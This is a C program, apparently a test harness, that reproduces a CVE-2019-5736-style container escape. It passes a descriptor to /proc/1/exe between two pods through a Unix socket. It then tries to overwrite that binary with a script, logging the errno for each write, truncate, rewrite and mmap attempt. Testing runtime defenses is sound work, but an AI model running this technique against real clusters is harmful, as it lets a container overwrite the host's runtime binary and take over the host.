/* The attack of CVE-2019-5736's kind on the init of a pod's shared PID namespace, by two containers.
 *
 *     init-thief send DIR     in that pod: opens /proc/1/exe and passes it on through the socket DIR/socket
 *     init-thief take DIR     in an ordinary pod: takes it there, makes DIR/taken, and waits for DIR/go, when that pod has
 *                             ended. Then it tries to put the script DIR/script in the place of the file, and tells in
 *                             DIR/result, a line for each attempt, the errno that came of it. What it could open
 *                             for writing stays open, unless the script is in it. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static _Noreturn void fail(const char *what) {
  perror(what);
  exit(1);
}

static int unix_socket(struct sockaddr_un *address) {
  address->sun_family = AF_UNIX;
  strcpy(address->sun_path, "socket");
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) fail("socket");
  return fd;
}

static void pass(int to, int fd) {
  char byte = 0, control[CMSG_SPACE(sizeof fd)] = {0};
  struct iovec part = {&byte, 1};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(header), &fd, sizeof fd);
  if (sendmsg(to, &message, 0) != 1) fail("sendmsg");
}

static int receive(int from) {
  int fd;
  char byte, control[CMSG_SPACE(sizeof fd)];
  struct iovec part = {&byte, 1};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  if (recvmsg(from, &message, 0) != 1 || CMSG_FIRSTHDR(&message) == NULL) fail("recvmsg");
  memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
  return fd;
}

static void send_program(void) {
  struct sockaddr_un address;
  int fd = open("/proc/1/exe", O_RDONLY);
  if (fd < 0) fail("/proc/1/exe");
  int socket = unix_socket(&address);
  if (connect(socket, (struct sockaddr *)&address, sizeof address) != 0) fail("connect");
  pass(socket, fd);
}

static int errno_of(long result) { return result < 0 ? errno : 0; }

static void tell(FILE *result, const char *attempt, int err) { fprintf(result, "%s %d\n", attempt, err); }

static void put_in_place(int fd, FILE *result) {
  char path[64], script[4096];
  FILE *from = fopen("script", "r");
  size_t length = from == NULL ? 0 : fread(script, 1, sizeof script, from);
  tell(result, "write", errno_of(write(fd, script, length)));
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  fchmod(fd, 0700);
  /* A process that still runs from it keeps it from being opened for writing for a moment after its end. */
  int writer = -1;
  for (int i = 0; i < 300 && (writer = open(path, O_RDWR)) < 0 && errno == ETXTBSY; i++) usleep(10000);
  tell(result, "reopen", errno_of(writer));
  int truncated = ftruncate(writer, 0);
  tell(result, "truncate", errno_of(truncated));
  int written = (int)pwrite(writer, script, length, 0);
  tell(result, "rewrite", errno_of(written));
  void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writer, 0);
  tell(result, "map", map == MAP_FAILED ? errno : 0);
  if (truncated == 0 && written == (int)length) {
    if (map != MAP_FAILED) munmap(map, 4096);
    close(writer);
  }
}

static void take(void) {
  struct sockaddr_un address;
  int socket = unix_socket(&address);
  if (bind(socket, (struct sockaddr *)&address, sizeof address) != 0 || listen(socket, 1) != 0) fail("listen");
  int fd = receive(accept(socket, NULL, NULL));
  close(open("taken", O_WRONLY | O_CREAT, 0600));
  while (access("go", F_OK) != 0) usleep(10000);
  FILE *result = fopen("result.part", "w");
  if (result == NULL) fail("result");
  put_in_place(fd, result);
  fclose(result);
  rename("result.part", "result");
  for (;;) pause();
}

int main(int argc, char **argv) {
  if (argc != 3 || chdir(argv[2]) != 0) fail("usage");
  if (strcmp(argv[1], "send") == 0) send_program();
  else take();
  return 0;
}
